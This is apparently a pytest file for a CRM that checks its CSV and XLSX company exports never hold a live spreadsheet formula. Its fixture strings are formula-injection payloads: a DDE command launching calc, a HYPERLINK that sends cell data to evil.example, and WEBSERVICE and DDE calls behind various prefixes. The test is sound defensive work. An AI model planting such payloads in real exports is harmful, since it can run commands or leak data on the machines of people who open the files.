"""T15: no cell of any export is a live formula, as the file stands and as LibreOffice opens it where that is there."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from crm_core.kernel import Kernel
from crm_core.testing.people import Api

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    '"=',
    "'=",
    ";=",
    ",=",
    "|=",
)
FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "WEBSERVICE(A1)", "DDE(1;2)")
TEXTS = [f"{start}{formula}" for start in STARTS for formula in FORMULAS]
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


async def exported(api: Api, kind: str) -> bytes:
    """Return the list of companies as a file."""
    answer = await api.client.get(
        "/api/v1/companies/export", params={"format": kind, "fields": "name"}, headers=api.headers
    )
    assert answer.status_code == 200, answer.text[:500]
    return bytes(answer.content)


def live(sheet: Any) -> list[Any]:
    """Return the cells of a sheet that are formulas."""
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.counted
async def test_no_export_holds_a_live_cell_and_the_texts_come_back(api: Api, kernel: Kernel, tmp_path: Path) -> None:
    kept = set()
    for text in TEXTS:
        made = await api.client.post("/api/v1/companies", json={"name": text}, headers=api.headers)
        assert made.status_code == 201, made.text
        kept.add(made.json()["name"])
    cells = [c for row in csv.reader(io.StringIO((await exported(api, "csv")).decode("utf-8-sig"))) for c in row]
    faults = [c for c in cells if c.startswith(LIVE)]
    (tmp_path / "list.xlsx").write_bytes(await exported(api, "xlsx"))
    book = openpyxl.load_workbook(tmp_path / "list.xlsx")
    faults += live(book.worksheets[0])
    assert kept <= {str(r[0].value) for r in book.worksheets[0].iter_rows()}, "a spreadsheet holds them unchanged"
    print(f"T15 {kernel.db.dialect}: {len(TEXTS)} texts in 2 kinds of export, {len(faults)} live cells")
    assert not faults


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
@pytest.mark.parametrize("dialect", ["sqlite"], indirect=True)
async def test_libreoffice_finds_no_formula_either(api: Api, tmp_path: Path) -> None:
    for text in TEXTS:
        await api.client.post("/api/v1/companies", json={"name": text}, headers=api.headers)
    for kind in ("csv", "xlsx"):
        (tmp_path / f"list.{kind}").write_bytes(await exported(api, kind))
        out = tmp_path / f"from-{kind}"
        command = [
            "soffice",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(tmp_path / f"list.{kind}"),
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        assert not live(openpyxl.load_workbook(out / "list.xlsx").worksheets[0])
